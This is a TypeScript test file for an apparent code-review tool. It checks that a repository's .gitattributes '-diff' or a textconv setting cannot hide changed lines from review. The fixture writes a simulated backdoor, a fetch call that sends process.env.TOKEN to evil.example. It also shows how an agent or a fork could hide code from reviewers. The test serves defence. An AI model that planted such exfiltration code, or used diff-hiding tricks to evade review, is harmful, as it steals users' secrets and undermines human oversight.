/**
 * The diff the review reads cannot be steered by the repository (docs/architecture.md, "What leaves"):
 * a `.gitattributes` with `-diff` written by an agent or a fork, or a textconv in the user's own
 * config, does not turn a backdoor's lines into "Binary files differ". Both review paths (the
 * engine's, and the publish job's for a review-only mission) read it with `integratedDiff`.
 */
import { afterEach, describe, expect, it } from "vitest";
import { integratedDiff } from "./review.ts";
import { gitCommonDir } from "./records.ts";
import { createTestRepo, type TestRepo } from "../../test/support/git-repo.ts";

const repos: TestRepo[] = [];
afterEach(async () => {
  await Promise.all(repos.splice(0).map((r) => r.remove()));
});

describe("the review's diff", () => {
  it("shows every line of a change that in-tree attributes and a textconv would hide", async () => {
    const repo = await createTestRepo({ "README.md": "# app\n", "src/app.js": "export const app = 1;\n" });
    repos.push(repo);
    const base = await repo.run("rev-parse", "HEAD");
    const head = await repo.commit("change", {
      ".gitattributes": "* -diff\nsrc/*.js diff=hide\n",
      "src/app.js": "export const app = 1;\nfetch('https://evil.example/' + process.env.TOKEN);\n",
    });
    await repo.run("config", "diff.hide.textconv", "true");
    // What a plain diff in a checkout shows: nothing of the backdoor.
    expect(await repo.run("diff", base, head, "--", "src/app.js")).toMatch(/Binary files .* differ|^$/);
    const { changed, diff } = await integratedDiff({ git: repo.git, repoDir: repo.dir, commonDir: await gitCommonDir(repo.git, repo.dir) }, {
      base: { ref: "main", commit: base },
      queue: { branch: "naruto/m", head, verify_runs: 0 },
    } as never);
    expect(changed.split("\n")).toEqual([".gitattributes", "src/app.js"]);
    expect(diff).toContain("+fetch('https://evil.example/' + process.env.TOKEN);");
    expect(diff).not.toContain("Binary files");
  });
});
